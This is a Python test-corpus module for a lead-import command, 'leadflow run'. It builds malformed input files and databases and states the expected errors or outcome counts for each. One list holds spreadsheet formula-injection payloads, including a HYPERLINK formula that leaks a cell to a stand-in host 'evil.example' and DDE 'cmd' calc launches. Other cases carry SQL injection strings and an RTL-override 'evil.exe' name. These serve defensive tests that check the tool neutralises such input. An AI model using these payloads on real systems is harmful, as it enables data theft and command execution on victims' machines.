"""The bad-input corpus: files and databases built per test, each with what ``leadflow run`` must do with it."""

from __future__ import annotations

import csv
import gzip
import io
import json
import random
import sqlite3
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from pathlib import Path

import openpyxl
import pandas as pd
from relhelp import HEADER, lead_rows, phone

#: Builds the case's input under a folder; returns the ``leadflow run`` arguments that read it.
Builder = Callable[[Path], list[str]]
#: Extra check of a run that completed: its outcomes table and the folder.
Check = Callable[[pd.DataFrame, Path], None]


@dataclass(frozen=True)
class Fails:
    """``leadflow run`` stops with exit 2 and one message naming the source (and these words)."""

    mentions: tuple[str, ...] = ()
    names_source: bool = True
    exit_code: int = 2
    #: The file the message names instead of the source.
    names: str | None = None


@dataclass(frozen=True)
class Rows:
    """The run completes: ``rows`` rows read, each with one outcome (``outcomes``: the exact non-zero counts)."""

    rows: int
    outcomes: dict[str, int] | None = None
    check: Check | None = None


@dataclass(frozen=True)
class Case:
    """One corpus entry."""

    name: str
    build: Builder
    expect: Fails | Rows
    bug: str | None = field(default=None)
    #: Read with ``open_source`` only: a pure source error, or too slow for the whole flow in the suite.
    via_source: bool = False


def _csv_text(rows: list[list[str]], header: list[str] = HEADER, sep: str = ",", eol: str = "\n") -> str:
    buf = io.StringIO()
    csv.writer(buf, delimiter=sep, lineterminator=eol).writerows([header, *rows])
    return buf.getvalue()


def _file(name: str, data: bytes | str, *args: str, encoding: str = "utf-8") -> Builder:
    def build(d: Path) -> list[str]:
        path = d / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode(encoding) if isinstance(data, str) else data)
        return ["--source", str(path), *args]

    return build


def _made(name: str, write: Callable[[Path], None], *args: str) -> Builder:
    def build(d: Path) -> list[str]:
        path = d / name
        write(path)
        return ["--source", str(path), *args]

    return build


def _leads(count: int, **kw: str) -> str:
    return _csv_text(lead_rows(count), **kw)


def _gzip(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buf.getvalue()


def _xlsx(rows: list[list[object]], *, sheets: bool = True) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        book = openpyxl.Workbook()
        sheet = book.active
        assert sheet is not None
        sheet.title = "Leads"
        for row in rows:
            sheet.append(row)
        book.save(path)
        if not sheets:
            _drop_sheets(path)

    return write


def _drop_sheets(path: Path) -> None:
    """Rewrite a workbook so that it lists no sheets at all."""
    with zipfile.ZipFile(path) as archive:
        members = {n: archive.read(n) for n in archive.namelist() if "worksheets/" not in n}
    members["xl/workbook.xml"] = members["xl/workbook.xml"].replace(
        b'<sheets><sheet name="Leads" sheetId="1" state="visible" r:id="rId1" /></sheets>', b"<sheets />")
    path.write_bytes(_zip(members))


def _parquet(frame: pd.DataFrame) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        frame.to_parquet(path, index=False)

    return write


def _sqlite(*args: str, query: bool = False) -> Builder:
    def build(d: Path) -> list[str]:
        path = d / "crm.db"
        with sqlite3.connect(path) as db:
            db.execute('create table leads ("Lead ID" text, "Phone" text)')
            db.executemany("insert into leads values (?, ?)", [(f"L{i}", phone(i)) for i in range(3)])
        return ["--source", f"sqlite:///{path}", *args]

    return build


def _sqlite_garbage(d: Path) -> list[str]:
    path = d / "crm.db"
    path.write_bytes(b"this is not a database" * 100)
    return ["--source", f"sqlite:///{path}", "--table", "leads"]


def _mapping(text: str, data: str | None = None) -> Builder:
    def build(d: Path) -> list[str]:
        (d / "map.yaml").write_text(text)
        (d / "leads.csv").write_text(data or _leads(2))
        return ["--source", str(d / "leads.csv"), "--mapping", str(d / "map.yaml")]

    return build


def _with_dnc(dnc: str) -> Builder:
    def build(d: Path) -> list[str]:
        (d / "leads.csv").write_text(_leads(3))
        (d / "dnc.txt").write_text(dnc)
        return ["--source", str(d / "leads.csv"), "--dnc", str(d / "dnc.txt")]

    return build


def _bracket_dir(d: Path) -> list[str]:
    folder = d / "["
    folder.mkdir()
    path = folder / "b].csv"
    path.write_text(HEADER[0] + "\n")
    return ["--source", str(path)]


def _big_utf8_then_cp1252() -> bytes:
    good = _leads(2000).encode()
    return good + f"BAD1,Ren\xe9,X,{phone(9999)},r@example.com\n".encode("cp1252")


def _ragged_late() -> str:
    rows = lead_rows(1200)
    rows[1100] = [*rows[1100], "surplus"]
    return _csv_text(rows)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
]


def _formula_rows() -> str:
    rows = [[f, f, "Last", phone(i), f"f{i}@example.com"] for i, f in enumerate(FORMULAS)]
    rows.append(["F-phone", "Ann", "Lee", "=1+2", "a@example.com"])
    return _csv_text(rows)


def _formulas_neutralised(table: pd.DataFrame, d: Path) -> None:
    cells = [c for col in table.columns for c in table[col] if isinstance(c, str) and c]
    for cell in cells:
        assert not cell.startswith(("=", "@", "\t", "\r")), cell
        if cell.startswith(("+", "-")):
            assert all(ch.isdigit() or ch in " ().-+" for ch in cell[1:]), cell
    ids = set(table["external_id"])
    assert {"'" + f for f in FORMULAS} <= ids, ids


def _keeps_text(*values: str) -> Check:
    def check(table: pd.DataFrame, d: Path) -> None:
        assert set(values) <= set(table["external_id"]), table["external_id"].tolist()

    return check


def _no_carriage_returns(table: pd.DataFrame, d: Path) -> None:
    assert not any("\r" in c for col in table.columns for c in table[col]), table
    assert set(table["external_id"]) == {"L0", "L1"}


def _wide(columns: int = 10_000) -> str:
    header = [*HEADER, *(f"c{i}" for i in range(columns - len(HEADER)))]
    rows = [[*r, *("x" for _ in range(columns - len(HEADER)))] for r in lead_rows(2)]
    return _csv_text(rows, header)


def _no_phone_rows(count: int) -> str:
    return "Lead ID,First Name\n" + "".join(f"N{i},Name{i}\n" for i in range(count))


ENGAGE_ROWS = lead_rows(3)
CASES = [
    Case("empty file", _file("leads.csv", b""), Fails(("no data rows",))),
    Case("header only", _file("leads.csv", ",".join(HEADER) + "\n"), Fails(("no data rows",))),
    Case("only whitespace", _file("leads.csv", "   \n\t\n  \n"), Rows(2, {"invalid": 2})),
    Case("binary data", _file("leads.csv", random.Random(7).randbytes(20_000)), Fails(("cannot decode",))),
    Case("PNG named .csv", _file("leads.csv", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8), Fails()),
    Case("wrong delimiter given", _file("leads.csv", _leads(3, sep=";"), "--delimiter", ","),
         Rows(3, {"invalid": 3})),
    Case("semicolons sniffed", _file("leads.csv", _leads(3, sep=";")), Rows(3, {"loaded": 3})),
    Case("mixed encodings", _file("leads.csv", _big_utf8_then_cp1252(), "--chunk-size", "500"),
         Fails(("row 2001", "byte offset"))),
    Case("cp1252 without BOM", _file("leads.csv", _csv_text([["L1", "Zoë", "Ørsted", phone(1), "z@example.com"]]),
                                     encoding="cp1252"), Rows(1, {"loaded": 1})),
    Case("UTF-8 BOM", _file("leads.csv", b"\xef\xbb\xbf" + _leads(2).encode()), Rows(2, {"loaded": 2})),
    Case("UTF-16 with BOM", _file("leads.csv", _leads(2), encoding="utf-16"), Rows(2, {"loaded": 2})),
    Case("CRLF line ends", _file("leads.csv", _leads(2, eol="\r\n")), Rows(2, {"loaded": 2}, _no_carriage_returns)),
    Case("CR-only line ends", _file("leads.csv", _leads(2, eol="\r")), Rows(2, {"loaded": 2})),
    Case("quoted newlines", _file("leads.csv", f'{",".join(HEADER)}\nL1,"Ann\nMarie",Lee,{phone(1)},a@example.com\n'
                                  f'L2,"Bob\r\n",Ray,{phone(2)},b@example.com\n'), Rows(2, {"loaded": 2})),
    Case("trailing delimiter", _file("leads.csv", "Lead ID,Phone,\n" + f"L1,{phone(1)},\nL2,{phone(2)},\n"),
         Rows(2, {"loaded": 2})),
    Case("ragged row", _file("leads.csv", _ragged_late(), "--chunk-size", "500"),
         Fails(("row 1101", "expected 5 fields, found 6"))),
    Case("unclosed quote", _file("leads.csv", f'Lead ID,Phone\nL1,"{phone(1)}\nL2,{phone(2)}\n'), Fails(("row 1",))),
    Case("NUL bytes", _file("leads.csv", f"Lead ID,First Name,Phone\nL1,An\x00n,{phone(1)}\nL\x002,Bo,{phone(2)}\n"),
         Rows(2)),
    Case("10 MB field", _file("leads.csv", f"Lead ID,First Name,Phone\nL1,{'x' * 10_000_000},{phone(1)}\n"
                                           f"L2,Bo,{phone(2)}\n"), Fails(("row 1", "field larger than field limit"))),
    Case("10,000 columns", _file("leads.csv", _wide()), Rows(2), via_source=True),
    Case("1,000 columns", _file("leads.csv", _wide(1_000)), Rows(2, {"loaded": 2})),
    Case("duplicate headers", _file("leads.csv", f"Lead ID,Phone,Phone\nL1,{phone(1)},{phone(5)}\n"),
         Rows(1, {"loaded": 1})),
    Case("100,000 rows without a phone", _file("leads.csv", _no_phone_rows(100_000)),
         Rows(100_000, {"invalid": 100_000})),
    Case("every row the same phone",
         _file("leads.csv", _csv_text([[f"D{i}", "A", "B", phone(1), ""] for i in range(5)])),
         Rows(5, {"loaded": 1, "duplicate": 4})),
    Case("unicode and right-to-left names", _file("leads.csv", _csv_text([
        ["ע-1", "שרה", "כהן", phone(1), "sara@example.com"],
        ["\u202eevil.exe", "\u0645\u062d\u0645\u062f", "\u200f\u200e\u0627\u0644\u0639\u0644\u064a", phone(2),
         "m@example.com"],
        ["Ω-3", "Zoë", "Nguyễn", phone(3), "z@example.com"]])),
         Rows(3, {"loaded": 3}, _keeps_text("ע-1", "\u202eevil.exe", "Ω-3"))),
    Case("emoji", _file("leads.csv", _csv_text([["id-😀", "😀", "🚀", phone(1), "e@example.com"],
                                                ["id-2", "Al", "Bo", "📞 " + phone(2), "b@example.com"]])),
         Rows(2), ),
    Case("formula injection", _file("leads.csv", _formula_rows()), Rows(6, {"loaded": 5, "invalid": 1},
                                                                        _formulas_neutralised)),
    Case("extremely long phones", _file("leads.csv", _csv_text([["P1", "A", "B", "4" * 10_000, ""],
                                                               ["P2", "A", "B", phone(2) + "9" * 500, ""]])),
         Rows(2, {"invalid": 2})),
    Case("phone as text float", _file("leads.csv", _csv_text([["F1", "A", "B", "4.15867E+09", ""]])),
         Rows(1, {"invalid": 1})),
    Case("JSON not an array", _file("leads.json", json.dumps({"leads": [{"Phone": phone(1)}]})),
         Fails(("array of objects",))),
    Case("JSON array of numbers", _file("leads.json", "[1, 2, 3]"), Fails(("row 1", "JSON object"))),
    Case("JSON broken mid-file", _file("leads.json", '[{"Lead ID": "L1", "Phone": "' + phone(1) + '"}, {"Lead ID": '),
         Fails(("invalid JSON",))),
    Case("JSON empty array", _file("leads.json", "[]"), Fails(("no data rows",))),
    Case("JSON nested values", _file("leads.json", json.dumps([{"Lead ID": "J1", "Phone": phone(1),
                                                                "tags": {"a": [1, 2]}, "n": None}])),
         Rows(1, {"loaded": 1})),
    Case("JSON Lines bad line", _file("leads.jsonl", "\n".join(
        [json.dumps({"Lead ID": f"J{i}", "Phone": phone(i)}) for i in range(2)] + ["{oops"])), Fails(("row 3",))),
    Case("truncated gzip", _file("leads.csv.gz", _gzip(_leads(500).encode())[:900]), Fails(("cannot read",))),
    Case("gzip", _file("leads.csv.gz", _gzip(_leads(3).encode())), Rows(3, {"loaded": 3})),
    Case("zip with two members", _file("leads.zip", _zip({"a.csv": _leads(1).encode(), "b.csv": _leads(1).encode()})),
         Fails(("exactly one file, found 2",))),
    Case("zip with no members", _file("leads.zip", _zip({})), Fails(("found 0",))),
    Case("corrupt zip", _file("leads.zip", b"PK\x03\x04" + b"\x00" * 64), Fails(("not a valid zip",))),
    Case("Excel with no sheets", _made("leads.xlsx", _xlsx([["Lead ID", "Phone"]], sheets=False)),
         Fails(("no sheets",))),
    Case("Excel wrong sheet name", _made("leads.xlsx", _xlsx([["Lead ID", "Phone"], ["L1", phone(1)]]), "--sheet",
                                         "Nope"), Fails(("no sheet 'Nope'", "'Leads'"))),
    Case("Excel sheet index out of range", _made("leads.xlsx", _xlsx([["Lead ID", "Phone"], ["L1", phone(1)]]),
                                                 "--sheet", "3"), Fails(("no sheet 3",))),
    Case("Excel value right of the header", _made("leads.xlsx", _xlsx([["Lead ID", "Phone"], ["L1", phone(1), "x"]])),
         Fails(("row 1", "column C"))),
    Case("Excel numeric phones", _made("leads.xlsx", _xlsx([["Lead ID", "Phone"], ["X1", int(phone(1))],
                                                            ["X2", float(phone(2))]])), Rows(2, {"loaded": 2})),
    Case("CSV named .xlsx", _file("leads.xlsx", _leads(2)), Fails(("not a valid .xlsx",))),
    Case("Parquet with no rows", _made("leads.parquet", _parquet(pd.DataFrame({"Lead ID": pd.Series([], dtype=str),
                                                                              "Phone": pd.Series([], dtype=str)}))),
         Fails(("no data rows",))),
    Case("Parquet phone as float", _made("leads.parquet", _parquet(pd.DataFrame(
        {"Lead ID": ["Q1", "Q2"], "Phone": [4158670001.0, 2.128670001e9]}))), Rows(2, {"loaded": 2})),
    Case("Parquet negative numbers", _made("leads.parquet", _parquet(pd.DataFrame(
        {"Lead ID": [-1, -2], "Phone": [-4158670001, -1], "Priority": [-5, 3]}))), Rows(2)),
    Case("corrupt Parquet", _file("leads.parquet", b"PAR1" + b"\x00" * 100 + b"PAR1"), Fails(("not a valid Parquet",))),
    Case("failing SQL query", _sqlite("--query", "select nope from leads"), Fails(("query failed", "nope"))),
    Case("missing table", _sqlite("--table", "no_such_table"), Fails(("query failed", "no_such_table"))),
    Case("SQL injection in a table name", _sqlite("--table", 'leads"; drop table leads; --'),
         Fails(("query failed", "no such table"))),
    Case("SQL injection in a bound value", _sqlite("--query", 'select * from leads where "Lead ID" = :id',
                                                   "--param", "id=x' or '1'='1"), Fails(("no data rows",))),
    Case("SQLite file that is not a database", _sqlite_garbage, Fails(("query failed",))),
    Case("PostgreSQL missing table", lambda d: ["--source", "postgresql+psycopg://postgres@127.0.0.1:5432/test",
                                                "--table", "leadflow_no_such_table"],
         Fails(("query failed", "leadflow_no_such_table"))),
    Case("MariaDB failing query", lambda d: ["--source", "mysql+pymysql://root@127.0.0.1:3306/test", "--query",
                                             "select * from leadflow_missing_table"],
         Fails(("query failed", "leadflow_missing_table"))),
    Case("missing file", lambda d: ["--source", str(d / "nope.csv")], Fails(("file not found",))),
    Case("a directory", lambda d: ["--source", str(d)], Fails(("unknown format",))),
    Case("unknown extension", _file("leads.xyz", _leads(1)), Fails(("unknown format '.xyz'",))),
    Case("unknown encoding", _file("leads.csv", _leads(1), "--encoding", "klingon"), Fails(("unknown encoding",))),
    Case("mapping names a missing column", _mapping("phone: Mobile\n"), Fails(("Mobile", "not found"))),
    Case("mapping is not YAML", _mapping("phone: [unclosed\n"),
         Fails(("invalid mapping file",), names="map.yaml")),
    Case("mapping to an unknown field", _mapping("telephone: Phone\n"),
         Fails(("unknown lead field",), names="map.yaml")),
    Case("two-character delimiter", _file("leads.csv", _leads(1), "--delimiter", ";;"),
         Fails(("invalid options", "delimiter"), names_source=False)),
    Case("do-not-call list", _with_dnc(f"# numbers\n{phone(1)}\n"), Rows(3, {"loaded": 2, "suppressed": 1})),
    Case("empty do-not-call file", _with_dnc("# nothing yet\n\n"), Rows(3, {"loaded": 3})),
    Case("do-not-call file missing", lambda d: [*_with_dnc("")(d)[:2], "--dnc", str(d / "nope.txt")],
         Fails(("nope.txt",), names_source=False)),
    Case("markup in the path", _bracket_dir, Fails(("[/b].csv", "no data rows"))),
    Case("markup in an option", _file("leads.csv", _leads(1), "--delimiter", "[/x]"),
         Fails(("invalid options",), names_source=False)),
]

#: Pure source errors read with ``open_source`` (the command line path is covered by the others).
SOURCE_ONLY = frozenset({
    "header only", "PNG named .csv", "unclosed quote", "10 MB field", "JSON array of numbers", "JSON broken mid-file",
    "JSON empty array", "JSON Lines bad line", "zip with no members", "corrupt zip", "Excel sheet index out of range",
    "Excel value right of the header", "CSV named .xlsx", "Parquet with no rows", "missing table",
    "SQLite file that is not a database", "a directory", "unknown extension", "unknown encoding",
    "mapping is not YAML", "mapping to an unknown field", "SQL injection in a bound value",
})
CASES = [replace(c, via_source=True) if c.name in SOURCE_ONLY else c for c in CASES]
